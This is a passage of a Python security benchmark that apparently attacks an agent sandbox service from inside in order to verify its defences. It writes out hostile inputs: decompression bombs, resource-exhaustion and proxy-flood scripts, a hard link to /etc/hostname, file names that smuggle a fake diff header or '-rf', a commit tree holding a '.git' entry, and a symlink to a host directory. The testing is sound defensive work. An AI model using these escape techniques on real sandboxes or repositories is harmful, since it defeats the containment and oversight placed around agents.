            svc.create_checkpoint(tid, "sparse")
            outcome = "TAKEN"
        except InvalidInput:
            outcome = "refused before reading"
        got, secs = rchar() - read0, time.monotonic() - t0
        svc.exec(tid, "rm -rf sp")
        return f"{outcome}; read {got / MiB:.1f} MiB in {secs:.1f}s (800 GiB apparent, {r.stdout.strip()} KiB used)"

    def bomb() -> str:
        path = one_huge_member(tmp / "bomb.tar.gz")
        before = len(svc.list_checkpoints(tid))
        try:
            svc.import_checkpoint(tid, path)
            return "ACCEPTED"
        except UnsafeArchive as exc:
            left = len(svc.list_checkpoints(tid)) - before
            return f"refused ({path.stat().st_size / MiB:.1f} MB -> 1 GiB): {exc.message[:50]}" + \
                (f"; {left} CHECKPOINTS LEFT" if left else "")

    def memory() -> str:
        async def main() -> str:
            async with Client(create_server(svc)) as client:
                res = await client.call_tool("create_task_sandbox", {
                    "task_id": "bench-too-big", "task_description": "too big", "workspace_path": str(host.repo),
                    "resource_limits": {"memory": "256g"}})
                return getattr(res.content[0], "text", "?") if res.is_error and res.content else "GRANTED"
        text = anyio.run(main)
        created = svc.registry.task_exists("bench-too-big")
        if text == "GRANTED" or created:
            return "GRANTED"
        return f"refused: {text.splitlines()[0][:70]}"

    def flood(n: int = 2000) -> str:
        audit_file = svc.audit.directory / f"{net_task.id}.jsonl"

        def denied() -> tuple[int, int, int]:
            audit = [e for e in svc.audit_log(net_task.id, decision="deny") if e["kind"] == "egress"]
            events = [e["payload"] for e in svc.registry.events(net_task.id, limit=100_000)
                      if e["type"] == "egress.denied"]
            return sum(e.get("count", 1) for e in audit), len(events), sum(e.get("count", 1) for e in events)

        seen0, events0, _ = denied()
        lines0 = len(audit_file.read_bytes().splitlines()) if audit_file.exists() else 0
        script = ("import concurrent.futures as f, urllib.request as u, urllib.error as e\n"
                  "def get(i):\n try: u.urlopen(f'http://other.test:8000/flood{i}', timeout=10).read()\n"
                  " except e.HTTPError as x: return x.code\n except Exception: return 0\n return 200\n"
                  f"with f.ThreadPoolExecutor(8) as p: codes = list(p.map(get, range({n})))\n"
                  "print(codes.count(403), codes.count(200))\n")
        r = svc.exec(net_task.id, ["python3", "-c", script], timeout=300, output_limit=10_000)
        seen = events = 0
        for _ in range(100):  # squid may still be writing its last lines
            seen, events, _ = denied()
            if seen - seen0 >= n:
                break
            time.sleep(0.2)
        lines = len(audit_file.read_bytes().splitlines()) - lines0
        new_events = events - events0
        verdict = "bounded" if lines <= 60 and new_events <= 30 and seen - seen0 >= n else "UNBOUNDED"
        return f"{verdict}: {r.stdout.split()[0] if r.stdout.split() else '?'} denied -> {lines} audit lines, " \
               f"{new_events} events (counted {seen - seen0})"

    return [
        ("quota: 100 MiB into a 64 MiB workspace", "ENOSPC inside; host image within quota", disk),
        ("quota: 3000 files into 2000 inodes", "ENOSPC inside", inodes),
        ("read_task_file of a sparse 1 GiB file", "bounded", sparse),
        ("checkpoint of 100 sparse 8 GiB files", "refused before reading", sparse_checkpoint),
        ("checkpoint import: 1 MB -> 1 GiB archive", "refused", bomb),
        ("resource_limits.memory=256g (MCP)", "refused", memory),
        ("2000 denied proxy requests", "bounded", flood),
    ]


def leaks(svc: TaskService, repo: Path, task: Task, needle: str) -> list[str]:
    """Every place taskbox keeps something where ``needle`` occurs: TASKBOX_HOME (this task's
    workspace and raw volume image included, other tasks' left out), the registry's events and
    rate windows, the checkpoint store's objects (inflated) and the user's repository history."""
    raw, found = needle.encode(), []
    skip = {str(svc.paths.workspaces), str(svc.paths.volumes)}
    keep = {str(svc.paths.workspace(task.id)), str(svc.paths.volume(task.id))}
    for top in [svc.paths.home, *map(Path, keep)]:
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skip]
            for name in filenames:
                p = os.path.join(dirpath, name)
                if (top == svc.paths.home and os.path.dirname(p) in skip) or p in keep and top == svc.paths.home:
                    continue
                st = os.lstat(p)
                if stat.S_ISREG(st.st_mode) and st.st_size < 256 * MiB:
                    with open(p, "rb") as fh:
                        if raw in fh.read():
                            found.append(os.path.relpath(p, svc.paths.home))
    conn = svc.registry._conn()
    found += [f"event {r['type']}" for r in conn.execute("SELECT type, payload FROM events") if needle in r["payload"]]
    found += ["rate window" for r in conn.execute("SELECT samples FROM rate_windows") if needle in r["samples"]]
    store = svc.checkpoints.store(task.id).path
    if store.exists():
        objs = subprocess.run(["git", "--git-dir", str(store), "cat-file", "--batch-all-objects", "--batch"],
                              capture_output=True, check=True).stdout
        found += ["checkpoint store"] if raw in objs else []
    if needle in git_out(repo, "log", "--all", "-p", "--format=%B"):
        found.append("user repository history")
    return found


def secret_rows(svc: TaskService, host: Host) -> list[Row]:
    task = svc.create_task(host.repo, "bench secrets", disk="64m")
    tid = task.id

    def nolog() -> str:
        token = "nolog-" + secrets.token_hex(12)

        async def main() -> str:
            async with Client(create_server(svc)) as client:
                outs = []
                for cmd in (f"echo out-{token}", f"rm -rf /tmp/x-{token}; echo {token} >&2; exit 3"):
                    res = await client.call_tool("execute_in_task", {"task_id": tid, "command": cmd,
                                                                     "log_execution": False})
                    outs.append(getattr(res.content[0], "text", "") if res.content else "")
                return "returned" if token in outs[0] else "NO OUTPUT"

        got = anyio.run(main)
        session = svc.attach(tid, "agent", "model").session
        svc.exec(tid, f"echo {token} private", log=False, session_id=session.id)
        svc.detach(tid, session.id)  # commits the memory files and fetches the branch into the user's repo
        found = leaks(svc, host.repo, svc.get(tid), token)
        return f"LEAKED: {', '.join(found)[:80]}" if found else f"no trace anywhere (output {got} to the caller)"

    def by_reference() -> str:
        value = "tok-" + secrets.token_hex(16)
        os.environ["TASKBOX_SECRET_BENCH_TOKEN"] = value
        try:
            r = svc.exec(tid, 'echo "v=$BENCH_TOKEN"; printf %s "$BENCH_TOKEN" | sha256sum; echo "$BENCH_TOKEN" >&2',
                         secrets=["BENCH_TOKEN"])
            typed = svc.exec(tid, f"echo typed {value}")
            svc.sync(tid)
            reached = r.stdout.splitlines()[1].split()[0] == hashlib.sha256(value.encode()).hexdigest()
            found = leaks(svc, host.repo, svc.get(tid), value)
            shown = value in r.stdout + r.stderr + typed.stdout
            if found or shown:
                return f"LEAKED: {', '.join(found + (['output'] if shown else []))[:80]}"
            return f"redacted everywhere; the command got it: {reached}; shown as {r.stdout.split()[0][2:]}"
        finally:
            os.environ.pop("TASKBOX_SECRET_BENCH_TOKEN", None)

    return [
        ("execute_in_task log_execution=false (MCP)", "no trace anywhere", nolog),
        ("secret passed by reference", "redacted everywhere", by_reference),
    ]


def variant_rows(svc: TaskService, host: Host) -> list[Row]:
    """Attacks issue 9 does not list."""
    task = svc.create_task(host.repo, "bench variants")
    tid, br, ws = task.id, task.branch, Path(task.workspace_path)

    def hard_link() -> str:
        r = svc.exec(tid, "ln /etc/hostname hl1 2>&1; ln /tmp hl2 2>&1; "
                          "echo x > /tmp/mine && ln /tmp/mine hl3 2>&1; ls hl1 hl2 hl3 2>/dev/null | wc -l")
        own = os.stat(ws).st_dev != os.stat(host.repo).st_dev and os.stat(ws).st_dev != os.stat(svc.paths.home).st_dev
        made = r.stdout.split()[-1]
        if made != "0":
            return f"LINKED {made}"
        why = "cross-device" if "cross-device" in r.stdout.lower() else r.stdout.strip()[:40]
        return f"refused ({why}); workspace its own filesystem: {own}"

    def long_paths() -> str:
        svc.exec(tid, "mkdir deep && cd deep && for i in $(seq 1500); do mkdir d && cd d; done && echo x > leaf.txt")
        results = [attempt(lambda: svc.write_file(tid, "a/" * 3000 + "x", b"x")),
                   attempt(lambda: svc.read_text(tid, "deep/" + "d/" * 1500 + "leaf.txt")),
                   attempt(lambda: svc.write_file(tid, "n" * 300, b"x"))]
        listed = len(svc.list_files(tid, "deep", recursive=True, limit=5000)["entries"])
        deleted = attempt(lambda: svc.delete_file(tid, "deep"))
        gone = svc.exec(tid, "test -e deep; echo $?").stdout.strip() == "1"
        return f"one-line errors or ok ({', '.join(results)}); listed {listed}; deleted {deleted}, gone: {gone}"

    def odd_names() -> str:
        svc.exec(tid, "touch \"$(printf 'x\\n+++ b/evil\\n@@ -0,0 +1 @@')\" \"$(printf 'bad\\377name')\" "
                      "\"$(printf 'tab\\tand\\033[31mred')\" -- '-rf' && mkdir -p \"$(printf 'dir\\nx')\"")
        ops = {"list": lambda: svc.list_files(tid, ".", recursive=True), "diff": lambda: svc.diff(tid),
               "stat": lambda: svc.diff(tid, stat=True), "sync": lambda: svc.sync(tid),
               "read": lambda: svc.read_file(tid, "bad\udcffname")}
        return host.guarded(br, lambda: outcomes(ops), "no crash, one-line errors")

    def many_refs() -> str:
        long_ref = "refs/heads/" + "/".join(["r" * 200] * 20)
        main_before = git_out(host.repo, "rev-parse", "main").strip()
        r = svc.exec(tid, "echo more >> README.md && git add -A && git -c user.name=a -c user.email=a@b commit -qm m "
                          "&& seq 1 20000 | sed 's|.*|create refs/tags/t& HEAD|' | git update-ref --stdin "
                          f"&& git update-ref {long_ref} HEAD && git update-ref refs/heads/main HEAD "
                          "&& git for-each-ref | wc -l", timeout=300)
        if r.exit_code:
            return f"staging failed: {r.stderr.strip()[:80]}"

        def attack() -> str:
            res = attempt(lambda: svc.sync(tid))
            tags = git_out(host.repo, "tag", "--list").split()
            return f"sync {res}; {r.stdout.strip()} refs in the workspace, {len(tags)} tags fetched"

        out = host.guarded(br, attack, "only the task branch fetched")
        moved = git_out(host.repo, "rev-parse", "main").strip() != main_before
        svc.exec(tid, "git for-each-ref --format='delete %(refname)' refs/tags | git update-ref --stdin; "
                      "git update-ref -d " + long_ref)
        return "BREACH: user's main moved" if moved else out

    def dotgit_tree() -> str:
        # a commit whose tree holds a ".git" directory and a "../x" name, made with plumbing in the container
        script = ("set -e; b=$(echo '[core]' | git hash-object -w --stdin); "
                  "g=$(printf '100644 blob %s\\tconfig\\n' $b | git mktree); "
                  "t=$(printf '040000 tree %s\\t.git\\n100644 blob %s\\tok.txt\\n' $g $b | git mktree --missing); "
                  "c=$(git -c user.name=a -c user.email=a@b commit-tree $t -p HEAD -m dotgit); "
                  "o=$(git rev-parse HEAD); git update-ref HEAD $c; echo $o $c")
        r = svc.exec(tid, script)
        if r.exit_code:
            return f"staging failed: {r.stderr.strip()[:80]}"
        orig, bad = r.stdout.split()[-2:]

        def attack() -> str:
            res = attempt(lambda: svc.sync(tid))
            fetched = subprocess.run(["git", "cat-file", "-e", bad], cwd=host.repo).returncode == 0
            return f"sync {res}" + ("; COMMIT FETCHED" if fetched else "")

        out = host.guarded(br, attack, "refused")
        svc.exec(tid, f"git reset -q --soft {orig}")
        return out

    def special_files() -> str:
        svc.exec(tid, "mkfifo f.fifo && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('s.sock')\"")
        got: dict[str, str] = {}

        def calls() -> None:
            for name, fn in (("read", lambda: svc.read_file(tid, "f.fifo")),
                             ("text", lambda: svc.read_text(tid, "s.sock")),
                             ("edit", lambda: svc.edit_file(tid, "f.fifo", "a", "b")),
                             ("write", lambda: svc.write_file(tid, "f.fifo", b"x"))):
                got[name] = attempt(fn)

        th = threading.Thread(target=calls, daemon=True)
        th.start()
        th.join(20)
        if th.is_alive():  # open the fifo from the other end so the host thread can finish
            svc.exec(tid, "timeout 5 sh -c 'echo x > f.fifo; cat f.fifo >/dev/null'; true")
            th.join(10)
            return f"BLOCKED the host ({', '.join(f'{k} {v}' for k, v in got.items())})"
        svc.exec(tid, "rm -f f.fifo s.sock")
        return "no hang; " + ", ".join(f"{k} {v}" for k, v in got.items())

    def memory_link() -> str:
        def attack() -> str:
            svc.exec(tid, f"mv .task-memory .tm-real && ln -s {host.canary} .task-memory")
            try:
                return outcomes({"exec": lambda: svc.exec(tid, "echo logged"),
                                 "todos": lambda: svc.update_todos(tid, [{"text": "t"}]),
                                 "decision": lambda: svc.log_decision(tid, "d"),
                                 "history": lambda: svc.history(tid), "sync": lambda: svc.sync(tid)})
            finally:
                svc.exec(tid, "rm .task-memory && mv .tm-real .task-memory")
        return host.guarded(br, attack, "canary unchanged")

    return [
        ("fifo / socket given to the file tools", "no hang", special_files),
        (".task-memory -> link to a host dir", "canary unchanged", memory_link),
        ("hard link from workspace to outside", "refused", hard_link),
        ("file tools: 6000-char path, 1500-deep tree", "one-line errors or ok", long_paths),
        ("names with newline, ESC, non-UTF-8 bytes", "no crash, one-line errors", odd_names),
        ("20k refs + 4 KiB ref name + own main", "only the task branch fetched", many_refs),
        ("task branch tree with a .git entry", "refused", dotgit_tree),
    ]


def _timeout(fn: Callable[[], object]) -> str:
    try:
        fn()
        return "finished"
    except CommandTimeout:
        return "killed at timeout"


if __name__ == "__main__":
    sys.exit(main())
